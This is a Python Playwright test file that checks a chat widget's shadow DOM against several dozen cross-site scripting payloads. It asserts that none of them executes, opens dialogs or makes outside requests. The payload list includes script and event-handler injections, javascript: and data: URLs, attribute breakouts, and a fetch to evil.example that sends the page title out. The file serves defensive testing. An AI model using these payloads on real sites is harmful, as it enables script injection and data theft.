"""Hostile articles, questions and model words on a page without any policy: nothing runs, nothing is fetched.

A sample of 40 attacks; `WIDGET_ATTACKS=300` tries them all.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from itertools import product

from playwright.sync_api import Dialog, expect

from tests.browser.site import ATTACK, TAG, Reader, Site

RUN = ("alert(1)", "window.run=1", "fetch('https://evil.example/?'+document.title)")
SHAPES = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=https://evil.example/i.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<iframe src='javascript:{run}'></iframe>",
    "<a href='javascript:{run}'>x</a>",
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    " javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    "https://a.example/'onmouseover='{run}",
    'https://a.example/" onfocus="{run}" autofocus="',
    "https://evil.example/\u202e{run}",
    "//evil.example/{run}",
    "![x](https://evil.example/m.png?{run})",
    "[x](javascript:{run})",
    "<style>@import 'https://evil.example/{run}'</style>",
    "<base href=https://evil.example/>{run}",
    "<form action=https://evil.example><button>{run}</button></form>",
    "<math><mi xlink:href='javascript:{run}'>x</mi></math>",
    "</textarea><script>{run}</script>",
    '"><script>{run}</script>',
    "'-{run}-'",
    "${{{run}}}",
    "{{{{{run}}}}}",
    "<template><img src=x onerror={run}></template>",
    "<body onpageshow={run}>",
    "<details open ontoggle={run}>",
    "<link rel=stylesheet href=https://evil.example/c.css>{run}",
    "<video src=https://evil.example/v onerror={run}>",
)
WRAPS = ("{0}", "**{0}** `{0}`", "- {0}\n- [1]{0}", "&lt;{0}&gt; %3Cscript%3E")


def attacks(count: int) -> list[str]:
    """Every shape before a second variant of any."""
    varied = [wrap.format(shape.format(run=run)) for wrap, run in product(WRAPS, RUN) for shape in SHAPES]
    return list(dict.fromkeys(varied))[:count]


def test_no_attack_runs_or_fetches(site: Site, reading: Callable[..., Reader]) -> None:
    count = int(os.environ.get("WIDGET_ATTACKS", "40"))
    site.put("/attacked", TAG, policy="")
    reader = reading("/attacked")
    page = reader.page
    dialogs: list[str] = []

    def opened(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", opened)
    reader.open()
    tried = attacks(count)
    assert len(tried) == count
    for attack in tried:
        failed = page.evaluate(
            """async (question) => {
            const element = document.querySelector('ask-articles'), shadow = element.shadowRoot;
            const answer = await element.ask(question);
            if (!answer) return 'not answered';
            for (const chip of shadow.querySelectorAll('.chip')) chip.click();
            const links = [...shadow.querySelectorAll('[href]')].filter((a) => !/^https?:$/.test(a.protocol));
            const odd = shadow.querySelectorAll('script, img, iframe, svg, math, style, link, video, base, form, '
              + 'template, .turn input, .turn textarea, .turn details, [onerror], [onload], [onfocus], [src]');
            const shown = shadow.querySelector('.question').textContent;
            element.reset();
            if (shown !== question.trim()) return 'not shown as it is';
            return [...links, ...odd].map((e) => e.outerHTML).join();
            }""",
            f"{ATTACK}{attack}",
        )
        assert failed == "", f"{attack}: {failed}"
    expect(reader.widget.locator(".turn")).to_have_count(0)
    assert dialogs == []
    assert page.evaluate("window.run") is None
    assert [url for url in reader.requests if not url.startswith((site.host, site.origin))] == []
    assert page.url == f"{site.origin}/attacked"
